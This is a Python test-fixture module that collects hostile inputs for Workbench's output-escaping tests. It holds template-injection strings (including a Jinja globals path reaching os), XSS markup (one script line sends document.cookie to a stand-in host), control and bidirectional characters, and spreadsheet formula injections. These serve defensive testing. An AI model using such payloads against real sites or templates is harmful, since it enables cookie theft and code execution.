"""Hostile text that scraped data really holds, shared by every hostile-input test.

Each area's tests (maps, reports, chart files, writers, the command line) take what they need
from here, so one list of payloads is run through every way text leaves Workbench.
"""

from __future__ import annotations

# Jinja/Django-style template source: must never be evaluated. The first two would run code
# (``cycler`` reaches ``os`` through its globals) or print 49 if they reached a template engine.
TEMPLATE_PAYLOADS: tuple[str, ...] = (
    "{{ 7*7 }}",
    "{{ cycler.__init__.__globals__.os.getcwd() }}",
    "{% raw %}",
    "{% endraw %}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{# comment #}",
    "${7*7}",
)

# Markup and script: must arrive as the same characters, never as live HTML or XML.
MARKUP_PAYLOADS: tuple[str, ...] = (
    "<script>fetch('http://example.invalid/x?'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "<b>bold</b> & <i>italic</i>",
    "<para>reportlab</para><font color=red>x</font>",
    '"quoted" \'single\' `back`',
    "<!-- comment",
    "]]><![CDATA[",
)

# Characters that are not allowed in XML 1.0 or that reorder text on screen.
CONTROL_PAYLOADS: tuple[str, ...] = (
    "bell\x07here",
    "nul\x00byte",
    "escape\x1b[31mred",
    "form\x0cfeed",
    "vertical\x0btab",
    "\u202eevil\u202c reversed",
    "zero\u200bwidth",
    "lone surrogate \ud800",
)

# Spreadsheet formulas, including the forms that survive a naive first-character check.
FORMULA_PAYLOADS: tuple[str, ...] = (
    "=1+1",
    "+447700900123",
    "-2+3",
    "@SUM(A1:A2)",
    "x;=1+1;",
    "x,=1+1,",
    "\t=1+1",
    "=HYPERLINK(\"http://example.invalid\",\"click\")",
)

ALL_TEXT: tuple[str, ...] = (
    TEMPLATE_PAYLOADS + MARKUP_PAYLOADS + CONTROL_PAYLOADS + FORMULA_PAYLOADS
)


def xml_safe(text: str) -> str:
    """The payload without the characters XML 1.0 cannot hold, for tests that compare text
    read back from an XML file with what went in."""
    return "".join(
        ch for ch in text
        if ch in "\t\n\r" or (" " <= ch <= "\ud7ff") or ("\ue000" <= ch <= "\ufffd")
        or ch > "\uffff"
    )
